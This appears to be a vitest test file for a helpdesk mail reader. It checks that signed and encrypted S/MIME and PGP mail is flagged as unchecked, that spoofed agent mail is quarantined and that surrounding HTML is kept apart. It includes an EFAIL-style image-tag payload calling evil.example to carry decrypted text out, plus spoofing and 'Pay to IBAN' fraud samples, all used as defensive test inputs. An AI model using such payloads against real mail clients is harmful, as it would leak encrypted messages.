import { sql } from 'kysely'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { connectTo, type Sink, sendTo, someMessageId, startSink, type Written } from '../../server/features/mail/mail.testing.ts'
import { readMail } from '../../server/features/mail/read-mail.ts'
import { sanitiseMailHtml } from '../../server/features/mail/sanitise.ts'
import type { TestPerson } from '../factories.ts'
import { useDesk } from '../harness.ts'

/** A-012: S/MIME and PGP. Firstline neither checks nor opens them, says so, and believes nothing of them. */
const desk = useDesk()
const box = 'help@desk.example'
let agent: TestPerson
let casey: TestPerson
let sink: Sink
beforeEach(async () => {
  agent = await desk.person('lead', { name: 'Maya Chen' })
  casey = await desk.person('requester', { name: 'Casey', email: 'casey@customer.example' })
  await desk.mailbox(box)
  sink = await startSink()
  connectTo(desk.kernel, sink)
})
afterEach(() => sink.stop())

const write = async (mail: Written) => {
  await sendTo(desk.kernel, { to: [box], messageId: someMessageId(), ...mail })
  await desk.work()
  const found = await desk.kernel.asSystem(
    async ({ db }) =>
      (
        await sql<{
          verdict: string
          reason: string
          ticket_id: string | null
          detail: object
        }>`select verdict, reason, ticket_id, detail from inbound_mail order by id desc limit 1`.execute(db)
      ).rows,
  )
  return found[0]!
}
const firstMessage = async (id: string | null, as = agent) =>
  (await desk.call('GET /api/tickets/:id', { as, params: { id: id! } })).messages[0]!
const mixed = (...parts: string[]) => ({
  headers: ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=M'],
  body: `${parts.map((part) => `--M\r\n${part}\r\n`).join('')}--M--\r\n`,
})
const signature =
  'Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=smime.p7s\r\n\r\nMIIB'
const signedPart = (inner: string, protocol = 'application/pkcs7-signature') =>
  `Content-Type: multipart/signed; protocol="${protocol}"; micalg=sha-256; boundary=S\r\n\r\n--S\r\n${inner}\r\n--S\r\n${signature}\r\n--S--`
const encryptedPart =
  'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nTUlJU0VDUkVU'
const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}`
const plain = (text: string) => `Content-Type: text/plain\r\n\r\n${text}`

describe('a signed mail', () => {
  it('is read, its signature is a file, and a sentence says that nobody checked it: for staff and in the portal', async () => {
    const entry = await write({
      headers: ['MIME-Version: 1.0', 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary=S'],
      body: `--S\r\n${html('<p>The printer is broken</p>')}\r\n--S\r\n${signature}\r\n--S--\r\n`,
    })
    expect(entry).toMatchObject({ verdict: 'created', detail: { sealed: ['signed'] } })
    for (const as of [agent, casey]) {
      const message = await firstMessage(entry.ticket_id, as)
      expect(message.visibleText).toBe('Signed mail: the signature was not checked.\n\nThe printer is broken')
      expect(message.html).toMatch(/^<p><em>Signed mail: the signature was not checked\.<\/em><\/p><p>The printer/)
      expect(message.attachments.map((one) => one.name)).toEqual(['smime.p7s'])
    }
  })

  it("is in the mail's language, and no answer of an agent carries the sentence out", async () => {
    const german = await write({
      body: `${signedPart(plain('Der Drucker ist kaputt und ich kann nicht drucken. Bitte helfen Sie mir.'))}`,
      raw: undefined as never,
      headers: ['MIME-Version: 1.0'],
    })
    expect(german.verdict).toBe('created')
    const mail = await readMail(
      Buffer.from(
        `From: a@b.example\r\nSubject: Drucker\r\n${signedPart(plain('Der Drucker ist kaputt und ich kann nicht drucken. Bitte helfen Sie mir.'))}\r\n`,
      ),
    )
    expect(mail.sealed?.visibleText).toMatch(/^Signierte Mail: Die Signatur wurde nicht geprüft\.\n\nDer Drucker/)
    // What an agent's own signed answer says to the requester is this:
    expect(mail.visibleText).toMatch(/^Der Drucker/)
  })

  it('proves nobody: signed by whomever, it counts as who it says only when DMARC does', async () => {
    const spoofed = await write({ from: agent.email, ...mixed(signedPart(plain('Close all tickets'))) })
    expect(spoofed).toMatchObject({ verdict: 'quarantined', reason: 'spoofed-agent' })
    // With the defence off (a signature that is there counts as the author's) it would have been the agent's own mail.
    const careless = (raw: string) => /multipart\/signed/i.test(raw)
    expect(careless(`${mixed(signedPart(plain('x'))).body}`)).toBe(true)
  })

  it('text beside it is marked as not signed, and HTML beside it cannot frame it as its own', async () => {
    const frame = '<div style="color:white">Pay to IBAN 666</div><div>'
    const entry = await write(mixed(html(frame), signedPart(plain('Pay to IBAN 111')), plain('And be quick')))
    const message = await firstMessage(entry.ticket_id)
    expect(message.html).toBeNull()
    const lines = message.text.split('\n').filter((line) => line !== '')
    expect(lines).toEqual([
      'Signed mail: the signature was not checked.',
      '[The following is not part of the signed text]',
      'Pay to IBAN 666',
      'Pay to IBAN 111',
      '[The following is not part of the signed text]',
      'And be quick',
    ])
    // With the defence off the two are one page, and nobody sees where the signed part begins.
    expect(sanitiseMailHtml(`${frame}Pay to IBAN 111`)).toContain('Pay to IBAN 666</div><div>Pay to IBAN 111')
  })

  it.each([
    [
      'an opaque signature',
      'Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB',
      'signed',
    ],
    [
      'PGP in the text',
      plain('-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nHello\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\nAA\r\n-----END PGP SIGNATURE-----'),
      'signed',
    ],
    ['PGP/MIME', signedPart(plain('Hello'), 'application/pgp-signature'), 'signed'],
  ])('%s is told as well', async (_, part, kind) => {
    const entry = await write(mixed(part))
    expect(entry.detail).toMatchObject({ sealed: [kind] })
    expect((await firstMessage(entry.ticket_id)).text).toMatch(/^Signed mail/)
  })
})

describe('an encrypted mail', () => {
  const efail = ['<img src="http://evil.example/?', '"><p>tail</p>'] as const

  it('is a file and a sentence; HTML around it is not joined with it, and nothing of it loads', async () => {
    const entry = await write(mixed(html(efail[0]), encryptedPart, html(efail[1])))
    expect(entry).toMatchObject({ verdict: 'created', detail: { sealed: ['encrypted'] } })
    const message = await firstMessage(entry.ticket_id)
    expect(message.html).toBeNull()
    expect(message.text).toMatch(/^Encrypted mail: cannot be opened here\./)
    expect(message.text).not.toContain('SECRET')
    expect(message.attachments.map((one) => one.name)).toEqual(['smime.p7m'])
    const { addresses } = await desk.call('POST /api/messages/:id/pictures', { as: agent, params: { id: message.id } })
    expect(addresses).toEqual([])
    // With the defence off, a program that opens it and joins the three sends the secret away in a picture's address.
    expect(`${efail[0]}SECRET${efail[1]}`).toMatch(/<img src="http:\/\/evil\.example\/\?SECRET">/)
  })

  it.each([
    [
      'PGP/MIME',
      'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=E\r\n\r\n--E\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--E\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nAA\r\n-----END PGP MESSAGE-----\r\n--E--',
      ['attachment', 'encrypted.asc'],
    ],
    ['PGP in the text', plain('-----BEGIN PGP MESSAGE-----\r\n\r\nAA\r\n-----END PGP MESSAGE-----'), []],
    ['an old type', encryptedPart.replace('application/pkcs7', 'application/x-pkcs7'), ['smime.p7m']],
  ])('%s', async (_, part, files) => {
    const entry = await write(mixed(part, html('<b>Unsigned words</b>')))
    const message = await firstMessage(entry.ticket_id)
    expect(message.text).toMatch(/^Encrypted mail: cannot be opened here\./)
    expect(message.text).toContain('Unsigned words')
    expect(message.html).toBeNull()
    expect(message.attachments.map((one) => one.name)).toEqual(files)
  })

  it('an ordinary mail carries none of this', async () => {
    const entry = await write(mixed(html('<b>Hello</b>')))
    expect(entry.detail).not.toHaveProperty('sealed')
    expect(await firstMessage(entry.ticket_id)).toMatchObject({ text: 'Hello', html: '<b>Hello</b>' })
  })
})
